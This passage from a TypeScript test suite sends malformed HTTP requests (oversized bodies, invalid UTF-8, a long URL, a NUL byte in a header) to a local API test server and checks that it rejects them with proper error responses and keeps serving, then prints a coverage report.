        ['invalid UTF-8 in a JSON body', json('/api/1.0/tasks', Buffer.from([0x7b, 0x22, 0x64, 0x61, 0x74, 0x61, 0x22, 0x3a, 0xff, 0xfe, 0x7d])), (s) => s === 400],
        ['Content-Length beyond the limit', `POST /api/1.0/tasks HTTP/1.1\r\nHost: x\r\n${auth}Content-Type: application/json\r\nContent-Length: 999999999\r\nConnection: close\r\n\r\n{}`, (s) => s === 413],
        ['a chunked body beyond the limit', `POST /api/1.0/tasks HTTP/1.1\r\nHost: x\r\n${auth}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${`8000\r\n${'x'.repeat(0x8000)}\r\n`.repeat(3)}0\r\n\r\n`, (s) => s === 413],
        ['a body shorter than its Content-Length', `POST /api/1.0/tasks HTTP/1.1\r\nHost: x\r\n${auth}Content-Type: application/json\r\nContent-Length: 100\r\nConnection: close\r\n\r\n{"data":{}}`, (s) => s >= 400 && s < 500],
        ['a 100 KB URL', `GET /api/1.0/users/me?opt_fields=${'a'.repeat(100_000)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`, (s) => s >= 400 && s < 500],
        ['NUL in a header', `GET /api/1.0/users/me HTTP/1.1\r\nHost: x\r\nX-Test: a\u0000b\r\nConnection: close\r\n\r\n`, (s) => s >= 400 && s < 500],
      ];
      const failures: string[] = [];
      for (const [what, request, ok] of cases) {
        const res = await raw(request);
        if (!ok(res.status)) failures.push(`${what}: ${res.status} ${res.body.slice(0, 200)}`);
        // Our answers are JSON error bodies; the HTTP parser's own refusals (no body) are Node's.
        else if (res.body.length && res.headers['content-type']?.startsWith('application/json')) failures.push(...errorBodyProblems(res.status, res.headers, res.body).map((p) => `${what}: ${p}`));
      }
      expect(failures).toEqual([]);
      expect((await fetch(`${runtime.baseUrl}/api/1.0/health`)).status).toBe(200); // and it still serves
    } finally {
      await runtime.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  }, 60_000);

  test('coverage report', () => {
    const statuses = [...stats.statuses].sort(([a], [b]) => a - b).map(([s, n]) => `${s}:${n}`).join(' ');
    process.stdout.write(
      `bad input: ${stats.routes}/${routes.length} routes, ${stats.requests} requests (seed ${SEED}), ${stats.accepted} unusual requests accepted, ${stats.skipped} skipped draws\n` +
        `  statuses: ${statuses}\n  known bugs hit ${stats.knownBugHits.length} times${stats.knownBugHits.length ? `, e.g.\n    ${stats.knownBugHits.slice(0, 5).join('\n    ')}` : ''}\n  valid requests answered 2xx/3xx on ${stats.baselineOk} routes; not on: ${stats.baselineNot.length ? `\n    ${stats.baselineNot.join('\n    ')}` : 'none'}\n`,
    );
    expect(stats.routes).toBe(routes.length);
  });
});
